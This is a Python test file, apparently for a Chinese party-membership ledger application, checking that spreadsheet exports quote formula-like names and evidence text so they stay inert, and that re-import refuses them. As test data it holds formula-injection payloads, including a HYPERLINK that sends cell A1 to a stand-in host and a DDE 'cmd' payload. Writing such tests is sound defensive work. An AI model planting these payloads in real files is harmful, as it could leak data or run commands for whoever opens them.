"""Issue 17, finding 1: formula-like text (a stored name, an imported ledger's name, a branch's
name, evidence text) is never a formula in any spreadsheet the product writes (`ledger export`,
`report --format xlsx`), read back with openpyxl; and export → import gives back exactly what was
entered, on SQLite and PostgreSQL.

A person's name is letters since the name rule (engine/input_policy.py: no digits or symbols), so
`person add` and the import refuse 「=cmd|…」; such names stand here for rows stored before the rule
(or written by a script): the exports must still quote them, and a re-import refuses them by name."""
from __future__ import annotations

from datetime import date

from openpyxl import Workbook, load_workbook

from reports.ledger.layout import layout_for
from reports.ledger.sheet import write_ledger_sheet
from reports.model import LedgerTable
from reports.spreadsheet import formula_like
from services.casework import candidates as uc
from services.ledger import intake as ledger
from services.organisation import directory
from services.app import App
from services.reporting.period_report import build_report, write_report
from tests.ledger_helpers import clean_path, ledger_row, township_layout
from workflows.registry import Registry

D = Registry.default().get("cpc_2014@2")
# Names the name policy accepts (it refuses control characters: tab/CR/LF payloads are covered
# by tests/unit/test_spreadsheet_safety.py, which writes them straight into the sheets).
# (names are at most 40 characters, as everywhere: the HYPERLINK payload is a short one)
ADDED = ['=HYPERLINK("http://ev.il/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "'=1+1"]
# raw cells of a hostile file -> the names they import as ("'=2+2" is how Excel users type text "=2+2")
IMPORTED = {"-王": "-王", "'-李·四": "-李·四"}  # formula-like names the name rule accepts
REFUSED = ["@SUM(A1:A9)", "＝1+1", "'=2+2"]  # formula-like names it refuses on import (digits, symbols)
STORED = [*ADDED, *IMPORTED.values()]
BRANCH = "=HYPERLINK(\"http://evil.example\",\"贺丰村\")"
EVIDENCE = "=cmd|' /C calc'!A0"


def _township(app) -> dict:
    with app.uow() as uow:
        county = uow.orgs.add(code="c", name="镇原县", level="county")
        t = uow.orgs.add(code="t", name="南川乡党委", level="township", parent_id=county)
    b = directory.add_org(app, "evil", BRANCH, "branch", kind="rural", parent_code="t")
    return {"t": t, "b": b}


def _enter(app, org) -> None:
    """Payload names by `person add`, applications in the payload branch with payload evidence."""
    for i, name in enumerate(ADDED):
        with app.uow() as uow:  # stored before the name rule: `person add` refuses these now
            pid = uow.people.add(name=name, gender="男", birth_date=date(1990, 1, 1 + i))
        cid = uc.register_applicant(app, person_id=pid, branch_id=org["b"], occurred_on=date(2015, 3, 2 + i),
                                    actor="书记").candidate_id
        uc.complete_step(app, cid, "first_talk", occurred_on=date(2015, 3, 20), actor="书记",
                         evidence={"talker": EVIDENCE, "notes": EVIDENCE})


def _hostile_file(app, path) -> None:
    """A ledger made elsewhere whose name cells are plain text that Excel would run as formulas."""
    L = township_layout(app)
    headers = tuple(layout_for(L).headers)
    steps = clean_path(D, date(2015, 3, 1), until="activist_selection")
    raws = [*IMPORTED, *REFUSED]
    rows = [ledger_row(L, name=n, branch=BRANCH, steps=steps, birth=date(1991, 1, 1 + i)) for i, n in enumerate(raws)]
    wb = Workbook()
    ws = wb.active
    ws.title = "发展党员工作台账"
    write_ledger_sheet(ws, LedgerTable(headers, tuple(tuple(i + 1 if h == "序号" else r.get(h) for h in headers)
                                                      for i, r in enumerate(rows))))
    for n, raw in enumerate(raws, start=3):
        cell = ws.cell(n, headers.index("姓名") + 1)
        cell.value = raw  # raw text, as a hostile file holds it (no quote added)
        cell.data_type = "s"
    wb.save(path)


def _inert(path) -> list[str]:
    """Every text cell of every sheet; asserts none is a formula or starts like one unquoted."""
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert c.data_type == "s"
                    assert not formula_like(c.value) or c.value.startswith("'"), f"{ws.title}!{c.coordinate}"
                    texts.append(c.value)
    return texts


def _names(app) -> set[str]:
    with app.uow(read_only=True) as uow:
        return {p.name for p in uow.people.list()}


def test_every_export_writes_formula_like_text_as_quoted_text(app, tmp_path):
    org = _township(app)
    _enter(app, org)
    _hostile_file(app, tmp_path / "hostile.xlsx")
    res = ledger.confirm(app, tmp_path / "hostile.xlsx", "t", skip_bad_rows=True)
    assert _names(app) >= set(STORED)  # stored as typed
    assert not _names(app) & {"@SUM(A1:A9)", "＝1+1", "=2+2"} and res["skipped"] == len(REFUSED), res

    ledger.export(app, "t", tmp_path / "ledger.xlsx")
    texts = _inert(tmp_path / "ledger.xlsx")
    assert {"'" + n for n in [*STORED, BRANCH]} <= set(texts)
    assert "'-王" in texts and "''=1+1" in texts and "'-李·四" in texts

    report = build_report(app, "t", "2015", as_of=date(2015, 12, 31))
    out = write_report(app, report, "xlsx", tmp_path / "report.xlsx")
    texts = _inert(out)
    assert {"'" + n for n in [*STORED, BRANCH]} <= set(texts)  # the ledger sheet and the 统计表's branch
    assert not any(EVIDENCE in t for t in texts if not t.startswith("'"))


def test_export_then_import_gives_back_the_names_as_entered(app, tmp_path):
    """Entered on a SQLite source, exported, imported into `app` (SQLite and PostgreSQL), and out again."""
    src = App.open(f"sqlite:///{tmp_path / 'src.db'}")
    src.clock = app.clock
    org = _township(src)
    _enter(src, org)
    _hostile_file(src, tmp_path / "hostile.xlsx")
    ledger.confirm(src, tmp_path / "hostile.xlsx", "t", skip_bad_rows=True)
    ledger.export(src, "t", tmp_path / "out.xlsx")

    _township(app)
    res = ledger.confirm(app, tmp_path / "out.xlsx", "t", skip_bad_rows=True)
    assert res["candidates"] == len(IMPORTED)  # the stored-before-the-rule names are refused by name
    assert _names(app) == set(IMPORTED.values())
    with src.uow(read_only=True) as s, app.uow(read_only=True) as uow:
        a, b = s.orgs.by_code("t").id, uow.orgs.by_code("t").id
    kept = set(IMPORTED.values())
    assert ledger.ledger_table(app, b).rows == tuple(r for r in ledger.ledger_table(src, a).rows if r[1] in kept)
    src.close()
